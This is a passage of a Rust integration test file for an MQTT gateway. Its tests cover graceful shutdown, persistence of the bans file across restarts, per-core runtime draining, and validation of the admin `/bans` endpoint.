        n += 1;
    }
}

/// A stderr that nobody reads (a stalled log pipe) does not keep the gateway from
/// stopping: lines that do not fit are dropped, and SIGINT drains and ends it. It wrote
/// its logs synchronously: the signal handler's first line blocked, and the process
/// could not be stopped by signals at all.
#[tokio::test]
async fn a_full_stderr_does_not_keep_the_gateway_from_stopping() {
    let config = "[server]\ndrain_timeout = \"1s\"\n";
    let mut gw = gateway_with_an_unread_stderr("full-stderr", config).await;
    fill_stderr(&gw).await;
    let signalled = Instant::now();
    gw.signal("INT");
    let status = gw.exit_status().await;
    let took = Instant::now().saturating_duration_since(signalled);
    assert!(took < Duration::from_secs(10), "exited only after {took:?}");
    assert_eq!(status.code(), Some(0));
}

/// With a full stderr and a drain held open by a client, the second SIGINT still ends
/// the process at once: its line is given a moment to be logged, no more.
#[tokio::test]
async fn a_full_stderr_does_not_keep_a_second_signal_from_ending_the_gateway() {
    let config = "[server]\ndrain_timeout = \"1h\"\n";
    let mut gw = gateway_with_an_unread_stderr("full-stderr-second", config).await;
    let held = mqtt_session("127.0.0.1", gw.mqtt, "holds-the-drain")
        .await
        .unwrap();
    fill_stderr(&gw).await;
    gw.signal("INT");
    sleep(Duration::from_millis(500)).await;
    assert!(gw.running(), "the drain ended early");
    let second = Instant::now();
    gw.signal("INT");
    let status = gw.exit_status().await;
    let took = Instant::now().saturating_duration_since(second);
    assert!(took < Duration::from_secs(5), "exited only after {took:?}");
    assert_eq!(status.code(), Some(1));
    drop(held);
}

/// `security.bans_file` is written as soon as the first signal arrives, while a
/// connected client still holds the drain open (a supervisor may kill the process
/// before the drain ends), not only after the drain.
#[tokio::test]
async fn the_bans_file_is_written_at_the_first_signal() {
    let dir = scratch("bans-file-at-signal");
    let file = dir.join("bans.json");
    let config = format!(
        "[security]\nadmin = true\nbans_file = {:?}\nbans_save_every = \"1h\"\n",
        file.display().to_string()
    );
    let mut gw = Gateway::start("bans-at-signal", &config, &[]).await;
    let ban = "/bans?key=addr&value=127.0.16.1&for=1h";
    assert_eq!(http_request(gw.metrics, "POST", ban).await.unwrap().0, 200);
    let mut session = mqtt_session("127.0.0.1", gw.mqtt, "holds-the-drain")
        .await
        .unwrap();
    assert!(!file.exists(), "written before the hour and the signal");
    gw.terminate();
    let deadline = Instant::now() + WAIT;
    while !std::fs::read_to_string(&file).is_ok_and(|f| f.contains("127.0.16.1/32")) {
        assert!(Instant::now() < deadline, "not written at the signal");
        sleep(Duration::from_millis(20)).await;
    }
    assert!(gw.running(), "the drain ended early:\n{}", gw.log());
    session.write_all(&[0xE0, 0x00]).await.unwrap();
    drop(session);
    assert_eq!(gw.exit_status().await.code(), Some(0), "{}", gw.log());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The bans file is written through a temporary file of a name no other writer uses: a
/// second gateway sharing the file (a rolling update over one volume, where both may be
/// PID 1 of their containers) with a temporary file at `<file>.<pid>.tmp` keeps it, where
/// before the first removed it, the two renamed each other's half-written files, and the
/// bans file could be left truncated.
#[tokio::test]
async fn the_bans_file_write_leaves_another_writers_temporary_file_alone() {
    let dir = scratch("bans-file-tmp");
    let file = dir.join("bans.json");
    let config = format!(
        "[security]\nadmin = true\nbans_file = {:?}\nbans_save_every = \"1h\"\n",
        file.display().to_string()
    );
    let mut gw = Gateway::start("bans-file-tmp", &config, &[]).await;
    let ban = "/bans?key=addr&value=127.0.16.2&for=1h";
    assert_eq!(http_request(gw.metrics, "POST", ban).await.unwrap().0, 200);
    // Another writer's temporary file, at the name this gateway's PID gave before.
    let theirs_name = format!("bans.json.{}.tmp", gw.pid());
    let theirs = dir.join(&theirs_name);
    std::fs::write(&theirs, "another writer's half").unwrap();
    gw.terminate();
    assert_eq!(gw.exit_status().await.code(), Some(0), "{}", gw.log());
    let written = std::fs::read_to_string(&file).unwrap();
    assert!(written.contains("127.0.16.2/32"), "{written}");
    assert_eq!(
        std::fs::read_to_string(&theirs).unwrap(),
        "another writer's half"
    );
    // Its own temporary files are gone.
    let left: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert_eq!(left, [theirs_name]);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Temporary bans files of writes that never finished (a process killed during one) are
/// removed at start-up once over an hour old: their names are unique to each write, so
/// nothing else would. A younger one, maybe another writer's in progress, is kept.
#[tokio::test]
async fn stale_temporary_bans_files_are_removed_at_start() {
    let dir = scratch("bans-file-stale-tmp");
    let file = dir.join("bans.json");
    let stale = dir.join("bans.json.1.00000000deadbeef.tmp");
    let fresh = dir.join("bans.json.1.00000000feedf00d.tmp");
    let other = dir.join("other.json.1.00000000deadbeef.tmp");
    let two_hours_ago = std::time::SystemTime::now() - Duration::from_secs(7200);
    for path in [&stale, &fresh, &other] {
        std::fs::write(path, "half").unwrap();
    }
    for path in [&stale, &other] {
        std::fs::File::options()
            .write(true)
            .open(path)
            .unwrap()
            .set_modified(two_hours_ago)
            .unwrap();
    }
    let config = format!("[security]\nbans_file = {:?}\n", file.display().to_string());
    let mut gw = Gateway::start("bans-file-stale-tmp", &config, &[]).await;
    gw.wait_log("removed a stale temporary bans file").await;
    assert!(!stale.exists(), "{}", gw.log());
    assert!(fresh.exists() && other.exists(), "{}", gw.log());
    gw.terminate();
    assert_eq!(gw.exit_status().await.code(), Some(0), "{}", gw.log());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// A bans file whose directory is missing, is not a directory or takes no new file is
/// refused at start-up and by `--check`, with status 2 and a line naming the key and the
/// file: before, the gateway started, said "no bans file yet", and lost every ban at its
/// first write (a typo in the path). A missing file in a writable directory is a first
/// start's: valid, and the check leaves nothing behind in the directory.
#[test]
fn a_bans_file_whose_directory_cannot_take_it_is_refused() {
    let dir = scratch("bans-file-dir");
    let a_file = dir.join("a-file");
    std::fs::write(&a_file, "").unwrap();
    let config =
        |path: &Path| format!("[security]\nbans_file = {:?}\n", path.display().to_string());
    for (path, why) in [
        (dir.join("missing/dir/bans.json"), "does not exist"),
        (a_file.join("bans.json"), "not a directory"),
        // sysfs makes no regular file, whoever asks (root too).
        (
            PathBuf::from("/sys/aegis-bans.json"),
            "cannot create a file",
        ),
    ] {
        let config = config(&path);
        let named = |out: &str| {
            out.contains("config error: security.bans_file")
                && out.contains(&path.display().to_string())
                && out.contains(why)
        };
        let (code, out) = check_config("bans-file-dir-check", &config);
        assert_eq!(code, Some(2), "--check {}: {out}", path.display());
        assert!(named(&out), "--check: {out}");
        let (status, stderr) = run_to_exit("bans-file-dir-start", &config);
        assert_eq!(status.code(), Some(2), "start {}: {stderr}", path.display());
        assert!(named(&stderr), "start: {stderr}");
    }
    let (code, out) = check_config("bans-file-dir-fresh", &config(&dir.join("bans.json")));
    assert_eq!(code, Some(0), "{out}");
    let left: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, ["a-file"]);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `--check` reads the bans file as a start does: a FIFO, a directory, a file over
/// 128 MiB and one that is not a list of bans are refused (status 2, naming the key, the
/// file and why), where before `--check` passed them and the start failed. A list of
/// bans is valid, and so is a missing file.
#[test]
fn check_reads_the_bans_file_as_a_start_does() {
    let dir = scratch("bans-file-read");
    let fifo = dir.join("fifo.json");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let a_dir = dir.join("a-dir.json");
    std::fs::create_dir(&a_dir).unwrap();
    let long = dir.join("long.json");
    // Sparse: no disk taken.
    std::fs::File::create(&long)
        .unwrap()
        .set_len((128 << 20) + 1)
        .unwrap();
    let bad = dir.join("bad.json");
    std::fs::write(&bad, "{not a list").unwrap();
    let good = dir.join("good.json");
    let ban = r#"{"key":"username","value":"u","until":"2099-01-01T00:00:00Z","reason":"manual"}"#;
    std::fs::write(&good, format!("[{ban}]")).unwrap();
    let config =
        |path: &Path| format!("[security]\nbans_file = {:?}\n", path.display().to_string());
    for (path, why) in [
        (&fifo, "not a regular file"),
        (&a_dir, "not a regular file"),
        (&long, "longer than 134217728 bytes"),
        (&bad, "a list of bans"),
    ] {
        let (code, out) = check_config("bans-file-read-check", &config(path));
        assert_eq!(code, Some(2), "{}: {out}", path.display());
        assert!(
            out.contains("config error: security.bans_file")
                && out.contains(&path.display().to_string())
                && out.contains(why),
            "{}: {out}",
            path.display()
        );
    }
    for path in [&good, &dir.join("none.json")] {
        let (code, out) = check_config("bans-file-read-ok", &config(path));
        assert_eq!(code, Some(0), "{}: {out}", path.display());
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

/// A write of the bans file that fails names the file: with its directory removed while
/// the gateway runs, the write at the signal warns `file=<path>`.
#[tokio::test]
async fn a_failed_bans_file_write_names_the_file() {
    let dir = scratch("bans-file-gone-dir");
    let file = dir.join("bans.json");
    let config = format!(
        "[security]\nbans_file = {:?}\nbans_save_every = \"1h\"\n",
        file.display().to_string()
    );
    let mut gw = Gateway::start("bans-file-gone", &config, &[]).await;
    std::fs::remove_dir_all(&dir).unwrap();
    gw.terminate();
    gw.wait_log("cannot write security.bans_file").await;
    assert_eq!(gw.exit_status().await.code(), Some(0), "{}", gw.log());
    let log = gw.log();
    let line = log
        .lines()
        .find(|l| l.contains("cannot write security.bans_file"))
        .unwrap();
    assert!(line.contains(&format!("file={}", file.display())), "{line}");
}

/// The last write of the bans file, after the drain, is bounded (3 s): with every
/// `fsync` held back for ten minutes, as by a disk that hangs, the stopping gateway
/// still ends in time, says the last bans may not be written, and the file it started
/// with is left whole (the write goes through a temporary file, renamed over it only
/// once synced).
#[tokio::test]
async fn a_hung_last_bans_file_write_does_not_hold_the_exit() {
    if let Some(why) = no_strace() {
        skipped("a_hung_last_bans_file_write_does_not_hold_the_exit", &why);
        return;
    }
    let dir = scratch("bans-file-hung");
    let file = dir.join("bans.json");
    std::fs::write(&file, "[]").unwrap();
    let config = format!(
        "[security]\nadmin = true\nbans_file = {:?}\nbans_save_every = \"1h\"\n",
        file.display().to_string()
    );
    let launch = Launch {
        fsync_delay: Some("600s"),
        ..Launch::default()
    };
    let mut gw = Gateway::start_with("bans-file-hung", &config, &[], launch).await;
    let ban = "/bans?key=addr&value=127.0.16.3&for=1h";
    assert_eq!(http_request(gw.metrics, "POST", ban).await.unwrap().0, 200);
    // The write at the signal hangs in its `fsync`; the drain (no session) ends at once,
    // and the last write waits for that one.
    let signalled = Instant::now();
    gw.terminate();
    gw.wait_log("the last bans file write did not finish in time")
        .await;
    gw.wait_log("stopped drained=true").await;
    let took = Instant::now().saturating_duration_since(signalled);
    assert!(took >= Duration::from_secs(3), "gave up after {took:?}");
    // The gateway has ended: its exit is reported once its tracer has gone.
    gw.kill_tracer();
    assert_eq!(gw.exit_status().await.code(), Some(0), "{}", gw.log());
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "[]");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `server.runtime = "per-core"` on two cores: the first session is served by the
/// accepting runtime, the second by the other (by load: the first is still open), and a
/// signal drains both.
#[tokio::test]
async fn per_core_runtimes_serve_sessions_and_drain_together() {
    // On one core, per-core is one runtime, served as the default runtime is (the other
    // tests cover it).
    let launch = match runtimes(2) {
        Ok(launch) => launch,
        Err(why) => {
            skipped("per_core_runtimes_serve_sessions_and_drain_together", &why);
            return;
        }
    };
    let config = r#"
        [server]
        runtime = "per-core"
    "#;
    let mut gw = Gateway::start_with("per-core", config, &[], launch).await;
    gw.wait_log("runtimes=2").await;
    let mut first = mqtt_session("127.0.0.1", gw.mqtt, "first").await.unwrap();
    let mut second = mqtt_session("127.0.0.1", gw.mqtt, "second").await.unwrap();
    gw.terminate();
    let deadline = Instant::now() + WAIT;
    while TcpStream::connect(gw.mqtt).await.is_ok() {
        assert!(Instant::now() < deadline, "still accepting after SIGTERM");
        sleep(Duration::from_millis(25)).await;
    }
    // Both sessions still work during the drain, then end it.
    for session in [&mut first, &mut second] {
        session.write_all(&[0xC0, 0x00]).await.unwrap();
        let pong = timeout(WAIT, read_packet(session)).await.unwrap().unwrap();
        assert_eq!(pong, (0xD0, vec![]));
        session.write_all(&[0xE0, 0x00]).await.unwrap();
    }
    drop((first, second));
    let status = gw.exit_status().await;
    assert_eq!(status.code(), Some(0), "{}", gw.log());
    assert!(gw.log().contains("drained=true"), "{}", gw.log());
}

/// `server.runtime = "work-stealing"` (tokio's multi-thread runtime, not the default)
/// serves sessions and drains.
#[tokio::test]
async fn the_work_stealing_runtime_serves_sessions_and_drains() {
    let config = r#"
        [server]
        runtime = "work-stealing"
    "#;
    let mut gw = Gateway::start("work-stealing", config, &[]).await;
    let mut sessions = Vec::new();
    for client_id in ["first", "second"] {
        sessions.push(mqtt_session("127.0.0.1", gw.mqtt, client_id).await.unwrap());
    }
    for mut session in sessions {
        session.write_all(&[0xE0, 0x00]).await.unwrap();
    }
    gw.terminate();
    let status = gw.exit_status().await;
    assert_eq!(status.code(), Some(0), "{}", gw.log());
    // Read once the process has ended: its log lines are all written by then.
    assert!(gw.log().contains("drained=true"), "{}", gw.log());
    assert!(
        !gw.log().contains("serving from one runtime per core"),
        "{}",
        gw.log()
    );
}

/// The drain counts every runtime: a session left open on the second one (the second
/// connection goes there) makes the exit status 1 although the first runtime drained.
#[tokio::test]
async fn per_core_a_session_left_on_another_runtime_fails_the_drain() {
    // One core is one runtime (a_drain_that_runs_out_of_time_exits_1 covers that).
    let launch = match runtimes(2) {
        Ok(launch) => launch,
        Err(why) => {
            skipped(
                "per_core_a_session_left_on_another_runtime_fails_the_drain",
                &why,
            );
            return;
        }
    };
    let config = r#"
        [server]
        runtime = "per-core"
        drain_timeout = "300ms"
    "#;
    let mut gw = Gateway::start_with("per-core-abort", config, &[], launch).await;
    gw.wait_log("runtimes=2").await;
    let mut first = mqtt_session("127.0.0.1", gw.mqtt, "first").await.unwrap();
    let _second = mqtt_session("127.0.0.1", gw.mqtt, "second").await.unwrap();
    first.write_all(&[0xE0, 0x00]).await.unwrap();
    drop(first);
    // The first session has ended (on the first runtime) before the signal: the drain
    // has only the second to abort.
    let deadline = Instant::now() + WAIT;
    while gw.metric("aegis_active_connections").await != Some(1.0) {
        assert!(Instant::now() < deadline, "the first session did not end");
        sleep(Duration::from_millis(25)).await;
    }
    gw.terminate();
    let status = gw.exit_status().await;
    assert_eq!(status.code(), Some(1), "{}", gw.log());
    assert!(
        gw.log().contains("drained=false aborted=1\n"),
        "{}",
        gw.log()
    );
}

/// With `per-core`, `max_connections` caps the connections of all the runtimes together
/// (not each runtime): with two sessions open, one on each runtime (the accepting one
/// keeps the first and, serving more than its share, hands the second out), a third is
/// refused; a place freed is taken again.
#[tokio::test]
async fn per_core_runtimes_share_one_connection_cap() {
    // The placements above are those of two runtimes: on a larger machine the gateway is
    // pinned to two CPUs.
    let launch = match runtimes(2) {
        Ok(launch) => launch,
        Err(why) => {
            skipped("per_core_runtimes_share_one_connection_cap", &why);
            return;
        }
    };
    let config = r#"
        [server]
        runtime = "per-core"
        max_connections = 2
    "#;
    let gw = Gateway::start_with("per-core-cap", config, &[], launch).await;
    gw.wait_log("runtimes=2").await;
    let _first = mqtt_session("127.0.0.1", gw.mqtt, "first").await.unwrap();
    let mut second = mqtt_session("127.0.0.1", gw.mqtt, "second").await.unwrap();
    assert!(mqtt_session("127.0.0.1", gw.mqtt, "third").await.is_none());
    assert_eq!(
        gw.metric("aegis_connections_total{outcome=\"over_capacity\"}")
            .await,
        Some(1.0)
    );
    second.write_all(&[0xE0, 0x00]).await.unwrap();
    drop(second);
    let deadline = Instant::now() + WAIT;
    while gw.metric("aegis_active_connections").await != Some(1.0) {
        assert!(Instant::now() < deadline, "the second session did not end");
        sleep(Duration::from_millis(25)).await;
    }
    let fourth = mqtt_session("127.0.0.1", gw.mqtt, "fourth").await;
    assert!(fourth.is_some(), "{}", gw.log());
}

/// With `per-core` a banned address is refused at accept (reset) on every connection,
/// also on those whose turn is another runtime's: the accepting runtime admits each one
/// before it hands it out, and the other runtimes check nothing at accept themselves.
#[tokio::test]
async fn per_core_a_banned_address_is_refused_on_every_runtime() {
    let launch = match runtimes(2) {
        Ok(launch) => launch,
        Err(why) => {
            skipped(
                "per_core_a_banned_address_is_refused_on_every_runtime",
                &why,
            );
            return;
        }
    };
    let config = r#"
        [server]
        runtime = "per-core"
        [security]
        admin = true
    "#;
    let gw = Gateway::start_with("per-core-ban", config, &[], launch).await;
    gw.wait_log("runtimes=2").await;
    let (status, _) = http_request(gw.metrics, "POST", "/bans?key=addr&value=127.0.0.9&for=10m")
        .await
        .unwrap();
    assert_eq!(status, 200);
    for i in 0..4 {
        assert!(
            reset_at_accept("127.0.0.9", gw.mqtt).await,
            "connection {i} from the banned address was not refused at accept"
        );
    }
    let rejected = "aegis_connections_total{outcome=\"rejected\"}";
    gw.wait_metric(rejected, 4.0).await;
    assert_eq!(gw.metric(rejected).await, Some(4.0));
    // Other addresses are served, on both runtimes.
    for client_id in ["a", "b", "c", "d"] {
        let mut s = mqtt_session("127.0.0.10", gw.mqtt, client_id)
            .await
            .unwrap();
        s.write_all(&[0xE0, 0x00]).await.unwrap();
    }
}

/// A ban through `/bans` closes the sessions open from that address, on whichever
/// runtime serves them (by load, sessions held open alternate between the two: see
/// aegis-core's `tests/share.rs`), and leaves another address's session to the broker,
/// which still answers its PINGREQ.
#[tokio::test]
async fn a_ban_closes_the_open_sessions_it_matches_on_every_runtime() {
    let launch = match runtimes(2) {
        Ok(launch) => launch,
        Err(why) => {
            skipped(
                "a_ban_closes_the_open_sessions_it_matches_on_every_runtime",
                &why,
            );
            return;
        }
    };
    let config = "[server]\nruntime = \"per-core\"\n[security]\nadmin = true\n";
    let gw = Gateway::start_with("ban-closes-open", config, &[], launch).await;
    gw.wait_log("runtimes=2").await;
    let mut banned = Vec::new();
    for i in 0..4 {
        let s = mqtt_session("127.0.0.11", gw.mqtt, &format!("banned-{i}")).await;
        banned.push(s.unwrap());
    }
    let mut kept = mqtt_session("127.0.0.12", gw.mqtt, "kept").await.unwrap();
    let (status, _) = http_request(
        gw.metrics,
        "POST",
        "/bans?key=addr&value=127.0.0.11&for=10m",
    )
    .await
    .unwrap();
    assert_eq!(status, 200);
    for (i, s) in banned.iter_mut().enumerate() {
        assert!(closed_silently(s).await, "session {i} was not closed");
    }
    gw.wait_metric(
        "aegis_rejections_total{layer=\"security\",reason=\"closed_by_ban\"}",
        4.0,
    )
    .await;
    kept.write_all(&[0xC0, 0x00]).await.unwrap();
    let pong = timeout(WAIT, read_packet(&mut kept))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(pong, (0xD0, vec![]));
    let (_, events) = http_get(gw.metrics, "/events?limit=10").await.unwrap();
    assert!(events.contains("4 open connection(s) closed"), "{events}");
}

/// A network banned through `POST /bans` refuses every address in it over real loopback
/// sockets and closes the session open from one, while the next network is served; a
/// bare address is keyed by the `[limits]` prefixes, as the detector keys clients.
#[tokio::test]
async fn a_network_ban_refuses_its_addresses_and_keys_follow_the_limits_prefixes() {
    let config = "[limits]\nipv6_prefix = 56\n[security]\nadmin = true\n";
    let gw = Gateway::start("network-ban", config, &[]).await;
    let status =
        |method, path| async move { http_request(gw.metrics, method, path).await.unwrap().0 };
    let mut open = mqtt_session("127.0.3.6", gw.mqtt, "in-net").await.unwrap();
    let ban = "/bans?key=addr&value=127.0.3.0%2F24&for=10m";
    assert_eq!(status("POST", ban).await, 200);
    assert!(
        closed_silently(&mut open).await,
        "the open session was not closed"
    );
    refused_but(gw.mqtt, &["127.0.3.1", "127.0.3.254"], "127.0.4.1").await;
    let ipv6 = "/bans?key=addr&value=2001:db8:0:12::9&for=10m";
    assert_eq!(status("POST", ipv6).await, 200);
    let (_, bans) = http_get(gw.metrics, "/bans").await.unwrap();
    assert!(bans.contains("\"value\":\"127.0.3.0/24\""), "{bans}");
    assert!(bans.contains("\"value\":\"2001:db8::/56\""), "{bans}");
    for bad in ["10.0.0.0%2F33", "127.0.3", "2001:db8::%2F"] {
        let path = format!("/bans?key=addr&value={bad}&for=10m");
        let (code, _) = http_request(gw.metrics, "POST", &path).await.unwrap();
        assert_eq!(code, 400, "{bad}");
    }
    // Lifted by the network listed; an address in it lifts nothing.
    assert_eq!(
        status("DELETE", "/bans?key=addr&value=127.0.3.1").await,
        404
    );
    assert_eq!(status("DELETE", ban).await, 200);
    assert!(mqtt_session("127.0.3.1", gw.mqtt, "again").await.is_some());
}

/// `POST /bans` refuses a network wider than an IPv4 /8 or an IPv6 /32 (`0.0.0.0/0`
/// would refuse everyone), in CIDR notation or an IPv4-mapped form of it, or an IPv6
/// network whose 6to4, Teredo or NAT64 clients may be any IPv4 client (`2001::/32`,
/// `64:ff9b::/96` and the networks around it up to `64:ff9b::/32`, a Teredo server's
/// /64), with `400` and the reason; nothing is banned
/// and clients are still served. A /24, a /8, a /32 and the NAT64 form of a /8 are
/// banned.
#[tokio::test]
async fn a_manual_ban_wider_than_an_ipv4_8_or_an_ipv6_32_is_refused() {
    let gw = Gateway::start("wide-ban", "[security]\nadmin = true\n", &[]).await;
    for wide in [
        "0.0.0.0%2F0",
        "%3A%3A%2F0",
        "10.0.0.0%2F7",
        "2001:d00::%2F31",
        "%3A%3Affff:0.0.0.0%2F96",
        "2001::%2F32",
        "2001:0:c000:22d::%2F64",
        "64:ff9b::%2F96",
        "64:ff9b::%2F64",
        "64:ff9b::%2F32",
        "64:ff9b::%2F95",
        "64:ff9b::%2F100",
        "2002::%2F16",
    ] {
        let path = format!("/bans?key=addr&value={wide}&for=10m");
        let (status, body) = http_request(gw.metrics, "POST", &path).await.unwrap();
        assert_eq!(status, 400, "{wide}: {body}");
        assert!(body.contains("refusing to ban"), "{wide}: {body}");
    }
    assert_eq!(
        http_get(gw.metrics, "/bans").await.unwrap(),
        (200, "[]".into())
    );
    let mut s = mqtt_session("127.0.0.1", gw.mqtt, "served").await.unwrap();
    s.write_all(&[0xE0, 0x00]).await.unwrap();
    for narrow in [
        "127.0.14.0%2F24",
        "10.0.0.0%2F8",
        "2001:db8::%2F32",
        "64:ff9b::a00:0%2F104",
    ] {
        let path = format!("/bans?key=addr&value={narrow}&for=10m");
        let (status, body) = http_request(gw.metrics, "POST", &path).await.unwrap();
        assert_eq!(status, 200, "{narrow}: {body}");
    }
    refused_but(gw.mqtt, &["127.0.14.1"], "127.0.15.1").await;
}

/// `POST /bans` refuses (`400`) an empty or blank client id or username: an empty one
/// would refuse every client that sends none (an MQTT 3.1.1 clean session, an MQTT 5
/// client whose id the server assigns) and close their sessions. Nothing is banned, and
/// a session with an empty client id stays open and another connects.
#[tokio::test]
async fn a_manual_ban_of_an_empty_client_id_or_username_is_refused() {
    let gw = Gateway::start("empty-name-ban", "[security]\nadmin = true\n", &[]).await;
    let mut open = mqtt_session("127.0.0.1", gw.mqtt, "")
        .await
        .expect("a session with an empty client id");
    for (key, value) in [
        ("client_id", ""),
        ("username", ""),
        ("client_id", "%20%20"),
        ("username", "%09"),
    ] {
        let path = format!("/bans?key={key}&value={value}&for=10m");
        let (status, body) = http_request(gw.metrics, "POST", &path).await.unwrap();
        assert_eq!(status, 400, "{key}={value:?}: {body}");
        assert!(body.contains("refusing to ban an empty"), "{body}");
    }
    assert_eq!(
        http_get(gw.metrics, "/bans").await.unwrap(),
        (200, "[]".into())
    );
    open.write_all(&[0xC0, 0x00]).await.unwrap(); // PINGREQ
    let pong = timeout(WAIT, read_packet(&mut open))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(pong, (0xD0, vec![]));
    assert!(mqtt_session("127.0.0.1", gw.mqtt, "").await.is_some());
}

/// The `/bans` query is form-encoded: `%2B` is a `+`, a bare `+` a space. The answer
/// names the key as read, so that a `+` turned into a space shows; `/bans` lists the
/// literal `+`, and `DELETE` with `%2B` lifts it.
#[tokio::test]
async fn a_manual_ban_answers_with_the_key_as_read_from_the_query() {
    let gw = Gateway::start("plus-ban", "[security]\nadmin = true\n", &[]).await;
    let path = "/bans?key=username&value=user%2Btag@example.com&for=10m";
    let (status, body) = http_request(gw.metrics, "POST", path).await.unwrap();
    assert_eq!(status, 200, "{body}");
    assert_eq!(body, "banned username:\"user+tag@example.com\" for 600s\n");
    let (status, bans) = http_get(gw.metrics, "/bans").await.unwrap();
    assert_eq!(status, 200);
    let bans: serde_json::Value = serde_json::from_str(&bans).unwrap();
    assert_eq!(bans[0]["value"], "user+tag@example.com", "{bans}");
    // A bare `+` is a space: the answer says so.
    let path = "/bans?key=username&value=user+tag@example.com&for=10m";
    let (status, body) = http_request(gw.metrics, "POST", path).await.unwrap();
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("username:\"user tag@example.com\""), "{body}");
    let lift = "/bans?key=username&value=user%2Btag@example.com";
    let (status, body) = http_request(gw.metrics, "DELETE", lift).await.unwrap();
    assert_eq!(
        (status, body.as_str()),
        (200, "lifted username:\"user+tag@example.com\"\n")
    );
    let (status, body) = http_request(gw.metrics, "DELETE", lift).await.unwrap();
    assert_eq!(
        (status, body.as_str()),
        (404, "no such ban: username:\"user+tag@example.com\"\n")
    );
    // A ban lasts at most a century: the answer gives the time it got, not the one asked.
    let path = "/bans?key=addr&value=192.0.2.7&for=200y";
    let (status, body) = http_request(gw.metrics, "POST", path).await.unwrap();
    assert_eq!(
        (status, body.as_str()),
        (200, "banned addr:192.0.2.7/32 for 3153600000s\n")
    );
}

/// `POST /bans` with a `for` that humantime 2.4.0 panics on (its nanoseconds carried
/// into `u64::MAX` seconds) is a `400`, not a panic that drops the connection and
/// prints into the log; the endpoint goes on serving.
#[tokio::test]
async fn a_ban_duration_past_humantimes_range_is_refused_without_a_panic() {
    let gw = Gateway::start("ban-for-overflow", "[security]\nadmin = true\n", &[]).await;
    let path = "/bans?key=addr&value=192.0.2.7&for=18446744073709551615s1000000000ns";
    let (status, body) = http_request(gw.metrics, "POST", path).await.unwrap();
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("for must be a duration"), "{body}");
    assert_eq!(
        http_get(gw.metrics, "/bans").await.unwrap(),
        (200, "[]".into())
    );
    assert!(!gw.log().contains("panicked"), "{}", gw.log());
    let ok = "/bans?key=addr&value=192.0.2.7&for=1h%2030m";
    assert_eq!(http_request(gw.metrics, "POST", ok).await.unwrap().0, 200);
}

/// With `log.mask_client_addresses`, the log lines of `POST` and `DELETE /bans` show an
/// address ban as its `/24` (or `/48`), as the gateway's other lines show a client, not
/// the whole address.
#[tokio::test]
async fn bans_through_the_endpoint_are_logged_masked() {
    let config = "[log]\nmask_client_addresses = true\n[security]\nadmin = true\n";
    let gw = Gateway::start("bans-masked", config, &[]).await;
    let (v4, v6) = ("192.0.2.77", "2001:db8:1:2::7");
    // A 6to4 site's network carries its IPv4 address (192.0.2.77) in bits 16..48: shown
    // no narrower than 2002::/16.
    let six_to_four = "2002:c000:24d::/48";
    for value in [v4, v6, six_to_four] {
        let ban = format!("/bans?key=addr&value={value}&for=10m");
        assert_eq!(http_request(gw.metrics, "POST", &ban).await.unwrap().0, 200);
        let lift = format!("/bans?key=addr&value={value}");
        assert_eq!(
            http_request(gw.metrics, "DELETE", &lift).await.unwrap().0,
            200
        );
    }
    gw.wait_log("ban lifted through /bans key=addr:2002::/16")
        .await;
    let log = gw.log();
    assert!(
        log.contains("ban lifted through /bans key=addr:2001:db8:1::/48"),
        "{log}"
    );
    assert!(
        log.contains("ban added through /bans key=addr:192.0.2.0/24"),
        "{log}"
    );
    assert!(
        log.contains("ban lifted through /bans key=addr:192.0.2.0/24"),
        "{log}"
    );
    assert!(!log.contains(v4) && !log.contains("2001:db8:1:2"), "{log}");
    assert!(!log.contains("c000:24d"), "{log}");
}

/// `security.exempt`: connects from an exempt network count toward no ban, over real
/// loopback sockets, while another address over `max_connects` is banned.
#[tokio::test]
async fn an_exempt_network_is_never_banned_by_the_detector() {
    let config = "[security]\nmax_connects = 2\nexempt = [\"127.0.5.0/24\"]\n";
    let gw = Gateway::start("exempt", config, &[]).await;
    for i in 0..5 {
        let s = mqtt_session("127.0.5.1", gw.mqtt, &format!("exempt-{i}")).await;
        assert!(s.is_some(), "exempt session {i} refused");
    }
    for i in 0..2 {
        let s = mqtt_session("127.0.6.1", gw.mqtt, &format!("counted-{i}")).await;
        assert!(s.is_some(), "session {i} refused");
    }
    assert!(
        mqtt_session("127.0.6.1", gw.mqtt, "counted-2")
            .await
            .is_none()
    );
    let (_, bans) = http_get(gw.metrics, "/bans").await.unwrap();
    assert!(bans.contains("\"value\":\"127.0.6.1/32\""), "{bans}");
    assert!(!bans.contains("127.0.5."), "{bans}");
}

/// `security.bans_file`: bans outlive a restart. The first gateway (writing only after
/// its drain here) bans an address and a network through `/bans`; a second one started
/// on the same file refuses both over real sockets before it serves anyone, lists them
/// with the same ends, serves the next network, writes a new ban while it runs and
/// leaves out one lifted before its stop. A third with `max_bans = 2` keeps the two
/// that end last of three; a file that is not a list of bans stops the start (a
/// configuration error: status 2), naming it.
#[tokio::test]
async fn bans_outlive_a_restart_through_the_bans_file() {
    let dir = scratch("bans-file-kept");
    let file = dir.join("bans.json");
    let config = |extra: &str| {
        let path = file.display().to_string();
        format!("[security]\nadmin = true\nbans_file = {path:?}\n{extra}")
    };
    let saved = || std::fs::read_to_string(&file).unwrap_or_default();
    let post = |gw: SocketAddr, path: &'static str| async move {
        assert_eq!(
            http_request(gw, "POST", path).await.unwrap().0,
            200,
            "{path}"
        );
    };

    let mut first = Gateway::start("bans-file-1", &config("bans_save_every = \"1h\"\n"), &[]).await;
    post(first.metrics, "/bans?key=addr&value=127.0.7.1&for=10m").await;
    post(first.metrics, "/bans?key=addr&value=127.0.8.0%2F24&for=1h").await;
